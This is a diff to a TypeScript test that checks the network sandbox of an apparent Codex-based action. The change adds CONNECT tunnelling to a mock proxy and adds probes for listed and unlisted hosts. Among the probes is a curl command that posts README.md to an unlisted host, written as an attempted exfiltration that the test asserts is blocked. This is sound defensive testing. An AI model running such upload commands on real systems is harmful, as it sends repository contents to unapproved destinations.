@@ -8,7 +8,7 @@ import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import http from 'node:http';
 import os from 'node:os';
-import type { AddressInfo } from 'node:net';
+import net, { type AddressInfo } from 'node:net';
 import path from 'node:path';
 import { after, describe, it } from 'node:test';
 import { issueCommentEvent, users } from '../support/events.ts';
@@ -71,10 +71,22 @@ async function startInternet(): Promise<{
     forward.on('error', () => res.writeHead(502).end());
     req.pipe(forward);
   });
-  // Codex itself tries a few HTTPS hosts at start (through the runner's proxy, as any program would): no tunnels here.
+  // Tunnels (how HTTPS goes through a proxy) to a test name lead to the site too. Codex itself tries a few real
+  // HTTPS hosts at start, through the runner's proxy as any program would: those get no tunnel.
   proxy.on('connect', (req, socket) => {
     proxied.push(`CONNECT ${req.url}`);
-    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
+    const [host = '', port = ''] = (req.url ?? '').split(':');
+    if (!host.endsWith('-site.net') || port !== String(sitePort)) {
+      socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
+      return;
+    }
+    const upstream = net.connect(sitePort, '127.0.0.1', () => {
+      socket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
+      upstream.pipe(socket);
+      socket.pipe(upstream);
+    });
+    upstream.on('error', () => socket.destroy());
+    socket.on('error', () => upstream.destroy());
   });
   await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
   // A service on the runner's loopback, as the action's model proxy is: no command may reach it.
@@ -136,6 +148,9 @@ describe('scoped network: a host list', () => {
     const probes = [
       // The listed name reaches the site; what it returned becomes part of the change.
       `curl -sS -m 20 -o packages.txt http://${LISTED}:${internet.sitePort}/packages.txt`,
+      // The same through a tunnel (CONNECT, as HTTPS goes), and an unlisted name that way.
+      `curl -sS -m 20 --proxytunnel -o tunnelled.txt http://${LISTED}:${internet.sitePort}/tunnelled.txt`,
+      `curl -sS -m 20 --proxytunnel http://${UNLISTED}:${internet.sitePort}/tunnelled.txt`,
       // Sending the repository to a name that is not listed.
       `curl -sS -m 20 --data-binary @README.md http://${UNLISTED}:${internet.sitePort}/upload`,
       // A loopback service, directly and through Codex's proxy, by address and by a listed name resolving to it.
@@ -168,12 +183,14 @@ describe('scoped network: a host list', () => {
     // The listed name reached the local site, once, and what it sent is in the pull request.
     assert.deepEqual(
       internet.site.map(({ host, method, path }) => `${method} ${host}${path}`),
-      [`GET ${LISTED}:${internet.sitePort}/packages.txt`],
+      [`GET ${LISTED}:${internet.sitePort}/packages.txt`, `GET ${LISTED}:${internet.sitePort}/tunnelled.txt`],
       result.log,
     );
     const branch = w.remoteBranches().find((name) => name !== 'main');
     assert.ok(branch, `no branch was pushed: ${result.log}`);
     assert.equal(git(w.origin, 'show', `${branch}:packages.txt`), PACKAGE_LIST.trimEnd());
+    assert.equal(git(w.origin, 'show', `${branch}:tunnelled.txt`), PACKAGE_LIST.trimEnd());
+    assert.ok(internet.proxied.includes(`CONNECT ${LISTED}:${internet.sitePort}`), internet.proxied.join('\n'));
 
     // Nothing else left: the unlisted name never reached the runner's proxy, the README went nowhere.
     assert.ok(!internet.proxied.some((line) => line.includes(UNLISTED)), internet.proxied.join('\n'));
